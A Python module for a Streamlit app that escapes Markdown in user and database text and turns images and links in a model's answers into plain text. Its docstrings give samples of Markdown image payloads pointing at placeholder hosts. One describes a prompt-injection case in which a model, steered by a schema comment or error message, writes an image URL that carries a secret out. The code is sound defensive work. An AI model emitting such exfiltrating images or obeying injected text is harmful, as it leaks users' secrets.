"""Text from users and from the database, made safe to hand to anything Streamlit renders as Markdown.

Streamlit renders Markdown in far more places than ``st.markdown``: titles, captions, alerts, toasts, and the
labels of buttons, expanders, tabs, metrics, radios, checkboxes, text inputs and popovers (measured in
Chromium with Streamlit 1.67; selectbox and multiselect options, placeholders, ``st.text``, ``st.code`` and
dataframe cells are plain text). A project called ``![x](http://host/p)`` would make every member's browser
fetch that image, and ``[login again](http://...)`` would be a working link. :func:`escape_markdown` is the
one way the pages put such text into Markdown; for long text (SQL, a description) ``st.text``/``st.code``
are the other option.
"""

from __future__ import annotations

import re
import string

from ui.i18n import _

__all__ = ["escape_markdown", "model_markdown"]

# CommonMark lets every ASCII punctuation character be backslash-escaped, and an escaped one is always shown
# as itself. Escaping all of them covers links and images ([ ] ( ) !), emphasis (* _ ~), code (`), headings
# (#), block quotes and HTML (< >), tables (|), LaTeX ($), entities (&), list markers (- + and "1."),
# setext underlines (= -), GFM autolinks (the : / . @ of a URL or an email), and Streamlit's own directives
# (:red[...], :material/icon:, whose leading ":" and "[" or "/" are escaped), without a list to keep current.
_ESCAPED = {ord(ch): "\\" + ch for ch in string.punctuation}
_NBSP = "\u00a0"
# GFM's autolink literals are found in the parsed text, after escapes are resolved: "http://host", "www.host"
# and "a@host" would still become links. A word joiner (invisible, zero width) where the pattern needs a
# letter or a dot stops that; it is only ever added at those three places.
_WORD_JOINER = "\u2060"
_AUTOLINK = re.compile(r"(?<=https://)|(?<=http://)|(?=(?<=www)\.)|(?=(?<=[-.\w+])@)", re.IGNORECASE)


def escape_markdown(value: object, *, code: bool = False) -> str:
    """``value`` as Markdown source that renders as exactly its text: no link, image, emphasis, HTML or directive.

    Every ASCII punctuation character is backslash-escaped, and a word joiner breaks what GFM would turn
    into a link by itself (``http://``, ``www.``, an email's ``@``). Line breaks stay line breaks (Markdown hard
    breaks) and a line's leading spaces become no-break spaces, so no line turns into a heading, a list, a
    quote or an indented code block. ``None`` is the empty string.

    ``code=True`` gives an inline code span instead (monospace, for identifiers): its content is never parsed,
    autolinked or a directive, and its fence is one backtick longer than any run of backticks in the text, so
    a name holding backticks cannot close it early (CommonMark's rule); line breaks become spaces.
    """
    if value is None:
        return ""
    if code:
        text = " ".join(str(value).splitlines())
        if not text:
            return ""
        fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
        pad = " " if text[0] in "` " or text[-1] in "` " else ""
        return f"{fence}{pad}{text}{pad}{fence}"
    text = _AUTOLINK.sub(_WORD_JOINER, str(value))
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    out = []
    for line in lines:
        body = line.lstrip(" \t")
        indent = line[: len(line) - len(body)].replace("\t", "    ").replace(" ", _NBSP)
        out.append(indent + body.translate(_ESCAPED))
    return "  \n".join(out)


# A Markdown image or link: ![alt](target) / [text](target), and the reference forms [text][ref] and [ref]: url.
_IMAGE_OR_LINK = re.compile(r"(!?)\[([^\]\n]*)\]\(([^)\n]*)\)")
_REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.MULTILINE)


def model_markdown(text: str) -> str:
    """A model's answer as Markdown with its images and links defanged: their text stays, their targets are shown.

    The assistant's prose is rendered as Markdown on purpose (lists, bold, code), but a model can be steered by
    text it was shown (a schema comment, an error message) into writing ``![x](https://host/?q=<secret>)``, which
    the browser would fetch on its own: the classic exfiltration through an image. Images and links become their
    escaped text followed by the target as escaped text, so nothing is fetched or clickable.
    """

    def defang(match: re.Match[str]) -> str:
        bang, label, target = match.groups()
        shown = escape_markdown(label) if label else ""
        where = escape_markdown(target.strip())
        said = _("{text} (image: {target})") if bang else _("{text} (link: {target})")
        return said.format(text=shown, target=where).strip()

    return _REFERENCE_DEFINITION.sub(lambda m: escape_markdown(m.group(0)), _IMAGE_OR_LINK.sub(defang, text))
